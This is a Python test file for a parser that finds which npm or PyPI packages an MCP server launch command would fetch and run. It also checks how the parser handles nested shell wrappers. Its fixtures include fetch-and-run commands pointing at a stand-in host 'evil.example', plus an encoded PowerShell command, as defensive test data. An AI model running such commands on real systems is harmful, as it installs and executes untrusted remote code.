"""Which packages a command line fetches and runs."""

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hermes.mcp.launchers import launched

CASES = {
    "npx -y @modelcontextprotocol/server-everything": ["@modelcontextprotocol/server-everything"],
    "npx @scope/pkg@1.2.3 --flag": ["@scope/pkg@1.2.3"],
    "npx -y evil@latest": ["evil"],
    "npx -y evil@^1.0.0": ["evil"],
    "npx --yes --package=evil tool": ["evil"],
    "npx -p evil -p other tool": ["evil", "other"],
    "npx -p left -c 'npx right'": ["left", "right"],
    "npx --registry https://r.example evil": ["evil"],
    "npx x@npm:evil@2.0.0": ["evil@2.0.0"],
    "/usr/local/bin/npx evil": ["evil"],
    "C:\\nodejs\\npx.cmd evil": ["evil"],
    "npm exec -- evil@1.0.0": ["evil@1.0.0"],
    "npm exec --yes evil": ["evil"],
    "npm --silent x evil": ["evil"],
    "npm start": [],
    "node /opt/npm/bin/npx-cli.js evil": ["evil"],
    "node server.js": [],
    "bunx --bun evil": ["evil"],
    "bun x evil": ["evil"],
    "bun run server.ts": [],
    "pnpm dlx evil": ["evil"],
    "pnpm --silent dlx --package=evil tool": ["evil"],
    "corepack pnpm dlx evil": ["evil"],
    "yarn dlx evil": ["evil"],
    "deno run -A npm:evil@1.0.0/bin": ["evil@1.0.0"],
    "deno run -A npm:@a/evil@1.0.0": ["@a/evil@1.0.0"],
    "uvx mcp-server-time": ["mcp-server-time"],
    "uvx mcp_server.time@2025.1": ["mcp-server-time@2025.1"],
    "uvx --from 'evil[cli]==1.0' tool": ["evil@1.0"],
    "uvx --from=evil tool": ["evil"],
    "uvx --python 3.12 --with a,b==2 evil": ["a", "b@2", "evil"],
    "uvx 'evil>=1.0'": ["evil"],
    "uv tool run evil": ["evil"],
    "uv tool run --from evil tool": ["evil"],
    "uv run --with evil server.py": ["evil"],
    "uv run server.py": [],
    "uv sync": [],
    "pipx run evil": ["evil"],
    "pipx run --spec evil==1.0 tool": ["evil@1.0"],
    "python3 -m pipx run evil": ["evil"],
    "python -m mcp_server_git": [],
    "env A=b npx evil": ["evil"],
    "sudo -u me nice -n 5 npx evil": ["evil"],
    "timeout 60 uvx evil": ["evil"],
    "sh -c 'npx -y evil'": ["evil"],
    "bash -lc 'cd /tmp && A=1 npx -y evil; uvx other'": ["evil", "other"],
    "bash -c 'echo $(npx evil)'": ["evil"],
    "bash -c 'x=`npx evil`'": ["evil"],
    "sh -c 'sh -c \"npx evil\"'": ["evil"],
    "env sh -c 'exec npx evil'": ["evil"],
    "cmd /c npx -y evil": ["evil"],
    "powershell -Command npx evil": ["evil"],
    "docker run -i --rm mcp/time": [],
    "./server --port 1": [],
}


@pytest.mark.parametrize(("line", "wanted"), CASES.items())
def test_packages_are_found(line, wanted):
    posix = "\\" not in line
    command, *args = shlex.split(line) if posix else line.split()
    assert [package.shown() for package in launched(command, args).packages] == wanted


@pytest.mark.parametrize(
    "line",
    [
        "npx github:evil/evil",
        "npx evil/evil",
        "npx ./here",
        "npx https://evil.example/x.tgz",
        "uvx --from git+https://evil.example/x tool",
        "uvx ./here",
        'bash -c "npx \'evil"',
        "powershell -EncodedCommand AAAA",
    ],
)
def test_what_no_registry_has_is_told_as_unknown(line):
    command, *args = shlex.split(line)
    assert launched(command, args).unknown


def test_npm_and_pypi_are_told_apart():
    assert launched("npx", ["a"]).packages[0].ecosystem == "npm"
    assert launched("uvx", ["a"]).packages[0].ecosystem == "PyPI"


@given(st.lists(st.text(max_size=12) | st.sampled_from(["npx", "sh", "-c", "uvx", "--", "env"])))
def test_any_command_line_can_be_looked_at(words):
    launched("sh", ["-c", " ".join(words)])
    launched("env", words)
    launched("npx", words)
